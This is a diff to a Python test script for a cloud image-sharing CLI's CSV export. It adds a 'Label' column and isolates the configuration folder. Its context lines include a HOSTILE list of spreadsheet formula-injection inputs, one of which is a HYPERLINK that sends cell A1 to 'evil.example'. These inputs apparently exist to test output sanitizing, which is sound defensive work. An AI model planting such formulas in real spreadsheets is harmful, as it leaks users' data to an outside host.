@@ -26,7 +26,9 @@ import xml.etree.ElementTree as ElementTree
 KEY_ID = "LTAI5tDemoReadOnly0001"
 SECRET = "demo-secret-not-a-real-key"
 REGION = "cn-hangzhou"
-HEADER = ["RegionId", "ImageId", "ImageName", "Kind", "Principal", "SharedTime"]
+# Label (issue 13) comes last, so that the columns scripts already read keep their places; the run uses an
+# empty account book, so every Label is empty.
+HEADER = ["RegionId", "ImageId", "ImageName", "Kind", "Principal", "SharedTime", "Label"]
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -104,16 +106,21 @@ def expected_rows(data, image_id=None):
             continue
         base = [image["RegionId"], image["ImageId"], sanitized(image["ImageName"])]
         for account in image.get("Accounts", []):
-            rows.append(base + ["Account", sanitized(account["AliyunId"]), account.get("SharedTime", "")])
+            rows.append(base + ["Account", sanitized(account["AliyunId"]), account.get("SharedTime", ""), ""])
         for group in image.get("ShareGroups", []):
-            rows.append(base + ["Group", sanitized(group), ""])
+            rows.append(base + ["Group", sanitized(group), "", ""])
     return rows
+
+
+CONFIG_HOME = tempfile.mkdtemp(prefix="isb-csv-config-")
 
 
 def run_cli(cli, endpoint, args):
     env = {k: v for k, v in os.environ.items() if not k.startswith("ALIBABA_CLOUD_")}
     env["ALIBABA_CLOUD_ACCESS_KEY_ID"] = KEY_ID
     env["ALIBABA_CLOUD_ACCESS_KEY_SECRET"] = SECRET
+    # An account book of this machine's user must not label the rows: an empty configuration folder.
+    env["XDG_CONFIG_HOME"] = CONFIG_HOME
     result = subprocess.run([cli, "--endpoint", endpoint] + args, env=env, capture_output=True, timeout=120)
     if result.returncode != 0:
         raise AssertionError("image-share-cli %s failed (%d): %s"
